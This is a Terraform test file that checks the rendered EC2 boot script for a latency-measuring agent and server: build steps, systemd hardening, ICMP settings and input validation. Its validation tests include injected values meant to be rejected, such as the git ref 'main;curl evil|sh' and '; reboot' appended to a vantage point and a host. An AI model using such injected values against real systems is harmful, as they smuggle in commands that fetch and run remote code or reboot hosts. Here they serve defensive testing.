# Rendering of the boot script. The module has no provider, so every run is a plan that only
# evaluates templatefile().

variables {
  role    = "agent"
  git_url = "https://github.com/example/latency-pair.git"
  git_ref = "v1.2.3"
}

run "agent_from_source" {
  command = plan

  assert {
    condition     = startswith(output.rendered, "#!/bin/bash\n") && strcontains(output.rendered, "set -Eeuo pipefail")
    error_message = "user_data must be a strict bash script."
  }

  assert {
    condition     = strcontains(output.rendered, "readonly GIT_URL='https://github.com/example/latency-pair.git'") && strcontains(output.rendered, "readonly GIT_REF='v1.2.3'")
    error_message = "git URL and ref must be rendered, single-quoted."
  }

  assert {
    condition = alltrue([for step in [
      "./scripts/setup.sh",
      "cmake -S . -B build -DCMAKE_BUILD_TYPE=Release",
      "cmake --build build -j\"$(nproc)\"",
      "cmake --install build --prefix /usr/local",
    ] : strcontains(output.rendered, step)])
    error_message = "The source install must run setup.sh and the CMake configure/build/install steps."
  }

  assert {
    condition     = strcontains(output.rendered, "ExecStart=/usr/local/bin/latency-agent --listen=0.0.0.0:50051 --log_level=info --log_format=text\n")
    error_message = "The agent unit must start latency-agent on its gRPC port."
  }

  assert {
    condition     = strcontains(output.rendered, "ExecReload=/bin/kill -HUP $MAINPID\n")
    error_message = "systemctl reload must send SIGHUP (certificate and config reload)."
  }

  assert {
    condition = alltrue([for directive in [
      "User=latency",
      "Group=latency",
      "NoNewPrivileges=yes",
      "ProtectSystem=strict",
      "ProtectHome=yes",
      "PrivateTmp=yes",
      "CapabilityBoundingSet=",
      "AmbientCapabilities=",
      "RestrictSUIDSGID=yes",
      "SystemCallFilter=@system-service",
    ] : can(regex("(?m)^${directive}$", output.rendered))])
    error_message = "The unit must run unprivileged with the hardening directives and an empty capability set."
  }

  assert {
    condition     = !strcontains(output.rendered, "ping_group_range") && strcontains(output.rendered, "net.ipv4.icmp_echo_ignore_all = 0")
    error_message = "Agents answer ICMP with the kernel: no ping_group_range, echo replies on."
  }

  assert {
    condition     = strcontains(output.rendered, "amazon-ssm-agent") && !strcontains(output.rendered, "docker")
    error_message = "A source install installs the SSM agent and never docker."
  }

  assert {
    condition     = length(output.rendered) < 16384
    error_message = "EC2 user_data is limited to 16 KiB."
  }
}

run "server_from_source_targets_in_order" {
  command = plan

  variables {
    role = "server"
    targets = [
      { name = "same-az", host = "10.42.0.10" },
      { name = "cross-az", host = "10.42.1.10", port = 50061 },
    ]
    probe_interval = "500ms"
  }

  assert {
    condition     = strcontains(output.rendered, "ExecStart=/usr/local/bin/latency-server --target=same-az=10.42.0.10:50051 --target=cross-az=10.42.1.10:50061 --grpc_listen=0.0.0.0:50052 --http_listen=0.0.0.0:5000 --interval=500ms --log_level=info\n")
    error_message = "The server unit must list every target, in the given order, then its listen flags."
  }

  assert {
    condition     = output.args[0] == "--target=same-az=10.42.0.10:50051"
    error_message = "The first target is the one /metrics reports."
  }

  assert {
    condition     = strcontains(output.rendered, "net.ipv4.ping_group_range = $service_gid $service_gid")
    error_message = "The server must allow unprivileged ICMP sockets for its service group only."
  }

  assert {
    condition     = can(regex("(?m)^CapabilityBoundingSet=$", output.rendered)) && !can(regex("(?m)^[^#\n]*CAP_NET_RAW", output.rendered))
    error_message = "The server needs no capabilities (ping_group_range replaces CAP_NET_RAW)."
  }
}

run "privileged_port_gets_only_net_bind_service" {
  command = plan

  variables {
    role      = "server"
    targets   = [{ name = "a", host = "10.42.0.10" }]
    http_port = 80
  }

  assert {
    condition     = can(regex("(?m)^CapabilityBoundingSet=CAP_NET_BIND_SERVICE$", output.rendered)) && can(regex("(?m)^AmbientCapabilities=CAP_NET_BIND_SERVICE$", output.rendered))
    error_message = "A port below 1024 must add CAP_NET_BIND_SERVICE and nothing else."
  }
}

run "agent_from_container" {
  command = plan

  variables {
    git_url           = null
    container_image   = "ghcr.io/example/latency-pair:1.2.3"
    log_format        = "json"
    install_ssm_agent = false
  }

  assert {
    condition     = output.install_method == "container" && !strcontains(output.rendered, "git ") && !strcontains(output.rendered, "cmake")
    error_message = "A container install must not clone or build."
  }

  assert {
    condition     = strcontains(output.rendered, "ensure_packages docker.io\n") && strcontains(output.rendered, "retry docker pull --quiet \"$IMAGE\"")
    error_message = "A container install installs docker.io (refreshing the package lists if needed) and pulls the image."
  }

  assert {
    condition     = output.ecr_repository == null && !strcontains(output.rendered, "ecr_login") && jsonencode(output.egress_ports) == "[443]"
    error_message = "An image outside ECR needs no ECR login; a container install reaches out on HTTPS only."
  }

  assert {
    condition     = strcontains(output.rendered, "/usr/bin/docker run --rm --name latency-agent --network host --user $${LATENCY_UID}:$${LATENCY_GID} --cap-drop ALL --security-opt no-new-privileges=true --read-only")
    error_message = "The container must run on the host network as the service user, without capabilities, read-only."
  }

  assert {
    condition     = strcontains(output.rendered, "--entrypoint latency-agent ghcr.io/example/latency-pair:1.2.3 --listen=0.0.0.0:50051 --log_level=info --log_format=json\n")
    error_message = "The container must run latency-agent from the image with the agent flags."
  }

  assert {
    condition     = strcontains(output.rendered, "ExecReload=/usr/bin/docker kill --signal HUP latency-agent\n")
    error_message = "systemctl reload must send SIGHUP to the container."
  }

  assert {
    condition     = !strcontains(output.rendered, "amazon-ssm-agent")
    error_message = "install_ssm_agent = false must skip the SSM agent."
  }
}

# ---- mesh members: both programs on one host -------------------------------------------------

run "member_from_source_runs_both_programs" {
  command = plan

  variables {
    role          = "member"
    vantage_point = "us-east-1a"
    targets = [
      { name = "us-east-1b", host = "10.42.1.10" },
      { name = "us-east-1c", host = "10.42.2.10" },
    ]
  }

  assert {
    condition = (
      output.service_names == ["latency-agent", "latency-server"] &&
      strcontains(output.rendered, "ExecStart=/usr/local/bin/latency-agent --listen=0.0.0.0:50051 --log_level=info --log_format=text\n") &&
      strcontains(output.rendered, "ExecStart=/usr/local/bin/latency-server --target=us-east-1b=10.42.1.10:50051 --target=us-east-1c=10.42.2.10:50051 --grpc_listen=0.0.0.0:50052 --http_listen=0.0.0.0:5000 --interval=1s --source=us-east-1a --log_level=info\n")
    )
    error_message = "A member installs both units: the agent on its gRPC port, the server probing the other members with its own source."
  }

  assert {
    condition = alltrue([for name in ["latency-agent", "latency-server"] :
      strcontains(output.rendered, "cat >/etc/systemd/system/${name}.service <<'UNIT'\n") &&
      strcontains(output.rendered, "systemctl enable --now ${name}.service\n") &&
      strcontains(output.rendered, "systemctl is-active --quiet ${name}.service\n")
    ]) && strcontains(output.rendered, "report_status \"ok: latency-agent active, latency-server active\"")
    error_message = "A member starts both services and reports serving only when both are active."
  }

  assert {
    condition = (
      length(regexall("(?m)^CapabilityBoundingSet=$", output.rendered)) == 2 &&
      length(regexall("(?m)^NoNewPrivileges=yes$", output.rendered)) == 2 &&
      strcontains(output.rendered, "net.ipv4.ping_group_range = $service_gid $service_gid") &&
      strcontains(output.rendered, "cat >>/etc/sysctl.d/60-latency-pair.conf <<'EOF'\n# Managed by latency-pair bootstrap: the other mesh members measure ICMP RTT to this host.\nnet.ipv4.icmp_echo_ignore_all = 0\n")
    )
    error_message = "Both units are hardened alike; the host allows the server's ICMP sockets and answers the other members' echo requests."
  }

  assert {
    condition     = output.server_config == "# latency-server targets, rendered by Terraform (infra/modules/_user_data): edits here are overwritten.\nsource: \"us-east-1a\"\ntargets { name: \"us-east-1b\" host: \"10.42.1.10\" grpc_port: 50051 }\ntargets { name: \"us-east-1c\" host: \"10.42.2.10\" grpc_port: 50051 }\ndefaults { interval_ms: 1000 }\n"
    error_message = "The member's server config names its source and the other members."
  }

  assert {
    condition     = length(output.rendered) < 16384
    error_message = "EC2 user_data is limited to 16 KiB."
  }
}

run "member_from_the_package_configures_both_programs" {
  command = plan

  variables {
    role             = "member"
    git_url          = null
    package          = { bucket = "lp-artifacts-0123", manifest_key = "manifest", config_key = "config/member-a.textproto" }
    status_parameter = "/lp/status/member-a"
    vantage_point    = "a"
    targets          = [{ name = "b", host = "10.42.1.10" }]
    secrets = {
      ca          = "/lp/tls/ca"
      cert        = "/lp/tls/member-cert"
      key         = "/lp/tls/member-key"
      client_cert = "/lp/tls/probe-cert"
      client_key  = "/lp/tls/probe-key"
      client_ca   = "/lp/tls/ca"
      token       = "/lp/token"
    }
  }

  assert {
    condition = (
      strcontains(output.rendered, "printf 'LATENCY_SERVER_ARGS=\"%s\"\\n' '--grpc_listen=0.0.0.0:50052 --http_listen=0.0.0.0:5000 --log_level=info --grpc_tls_cert=/etc/latency-pair/tls/cert.crt --grpc_tls_key=/etc/latency-pair/tls/cert.key --http_tls_cert=/etc/latency-pair/tls/cert.crt --http_tls_key=/etc/latency-pair/tls/cert.key --probe_tls_ca=/etc/latency-pair/tls/ca.crt --probe_tls_cert=/etc/latency-pair/tls/client.crt --probe_tls_key=/etc/latency-pair/tls/client.key --auth_token_file=/etc/latency-pair/tls/token' >/etc/default/latency-server\n") &&
      strcontains(output.rendered, "printf 'LATENCY_AGENT_ARGS=\"%s\"\\n' '--listen=0.0.0.0:50051 --log_level=info --log_format=text --tls_cert=/etc/latency-pair/tls/cert.crt --tls_key=/etc/latency-pair/tls/cert.key --tls_client_ca=/etc/latency-pair/tls/client-ca.crt' >/etc/default/latency-agent\n")
    )
    error_message = "A member from the package configures both units (its source and targets in the config file), one certificate serving all three surfaces."
  }

  assert {
    condition = (
      strcontains(output.server_config, "source: \"a\"\n") &&
      !strcontains(output.rendered, "--source=") &&
      strcontains(output.rendered, "systemctl reload latency-agent.service\n") &&
      strcontains(output.rendered, "systemctl reload latency-server.service\n") &&
      strcontains(output.rendered, "latency-agent $(systemctl is-active latency-agent.service || true), latency-server $(systemctl is-active latency-server.service || true), updated:")
    )
    error_message = "The source travels in the config object; new TLS material reloads both programs; the sync reports both."
  }
}

run "member_from_container_runs_two_containers" {
  command = plan

  variables {
    role            = "member"
    git_url         = null
    container_image = "ghcr.io/example/latency-pair:1.2.3"
    targets         = [{ name = "b", host = "10.42.1.10" }]
  }

  assert {
    condition = (
      strcontains(output.rendered, "--entrypoint latency-agent ghcr.io/example/latency-pair:1.2.3 --listen=0.0.0.0:50051") &&
      strcontains(output.rendered, "--entrypoint latency-server ghcr.io/example/latency-pair:1.2.3 --target=b=10.42.1.10:50051") &&
      strcontains(output.rendered, "ExecReload=/usr/bin/docker kill --signal HUP latency-agent\n") &&
      strcontains(output.rendered, "ExecReload=/usr/bin/docker kill --signal HUP latency-server\n") &&
      length(regexall("retry docker pull", output.rendered)) == 1
    )
    error_message = "A member pulls the image once and runs each program in its own container."
  }
}

run "reject_member_without_targets" {
  command = plan
  variables {
    role = "member"
  }
  expect_failures = [var.targets]
}

run "reject_member_privileged_port_in_container" {
  command = plan
  variables {
    role            = "member"
    git_url         = null
    container_image = "ghcr.io/example/latency-pair:1.2.3"
    targets         = [{ name = "b", host = "10.42.1.10" }]
    agent_grpc_port = 443
  }
  expect_failures = [var.container_image]
}

run "reject_shell_in_vantage_point" {
  command = plan
  variables {
    role          = "server"
    targets       = [{ name = "b", host = "10.42.1.10" }]
    vantage_point = "a\"; reboot"
  }
  expect_failures = [var.vantage_point]
}

# ---- validation ----------------------------------------------------------------------------

run "reject_unknown_role" {
  command = plan
  variables {
    role = "prober"
  }
  expect_failures = [var.role]
}

run "reject_both_install_sources" {
  command = plan
  variables {
    container_image = "ghcr.io/example/latency-pair:1.2.3"
  }
  expect_failures = [var.git_url]
}

run "reject_no_install_source" {
  command = plan
  variables {
    git_url = null
  }
  expect_failures = [var.git_url]
}

run "reject_non_https_git_url" {
  command = plan
  variables {
    git_url = "git@github.com:example/latency-pair.git"
  }
  expect_failures = [var.git_url]
}

run "reject_shell_in_git_ref" {
  command = plan
  variables {
    git_ref = "main;curl evil|sh"
  }
  expect_failures = [var.git_ref]
}

run "reject_bad_image" {
  command = plan
  variables {
    git_url         = null
    container_image = "latency pair:latest"
  }
  expect_failures = [var.container_image]
}

run "reject_privileged_port_in_container" {
  command = plan
  variables {
    git_url         = null
    container_image = "ghcr.io/example/latency-pair:1.2.3"
    agent_grpc_port = 443
  }
  expect_failures = [var.container_image]
}

run "reject_server_without_targets" {
  command = plan
  variables {
    role = "server"
  }
  expect_failures = [var.targets]
}

run "reject_duplicate_and_bad_targets" {
  command = plan
  variables {
    role = "server"
    targets = [
      { name = "a", host = "10.0.0.1" },
      { name = "a", host = "10.0.0.2; reboot", port = 70000 },
    ]
  }
  expect_failures = [var.targets]
}

run "reject_too_short_interval" {
  command = plan
  variables {
    probe_interval = "50ms"
  }
  expect_failures = [var.probe_interval]
}

run "reject_same_http_and_grpc_port" {
  command = plan
  variables {
    http_port = 50052
  }
  expect_failures = [var.http_port]
}

run "reject_unknown_log_level" {
  command = plan
  variables {
    log_level = "verbose"
  }
  expect_failures = [var.log_level]
}
